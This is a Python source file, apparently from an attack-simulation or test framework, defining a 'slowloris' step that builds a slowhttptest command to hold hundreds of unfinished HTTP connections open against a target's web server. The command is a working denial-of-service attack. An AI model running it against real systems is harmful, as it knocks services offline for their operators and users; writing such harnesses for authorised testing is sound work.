"""slowhttptest in slowloris mode: many connections holding unfinished HTTP headers."""

from __future__ import annotations

from typing import Annotated, ClassVar

from jenga_edge.contract.typed import doc

from .base import AttackStep, StepContext


class Step(AttackStep, tag="slowloris", kw_only=True):
    binaries: ClassVar[tuple[str, ...]] = ("slowhttptest",)
    service: ClassVar[str | None] = "http"

    connections: Annotated[int, doc("connections in all (-c)", ge=1, le=2000)] = 300
    rate: Annotated[int, doc("new connections per second (-r)", ge=1, le=500)] = 50
    interval: Annotated[int, doc("seconds between follow-up header lines (-i)", ge=1, le=60)] = 10

    def command(self, ctx: StepContext) -> list[str]:
        return ["slowhttptest", "-H", "-c", str(self.connections), "-r", str(self.rate), "-i", str(self.interval),
                "-t", "GET", "-u", f"http://{ctx.target_address}/", "-x", "24", "-p", "3",
                "-l", str(max(1, int(self.duration) - 1))]  # fmt: skip
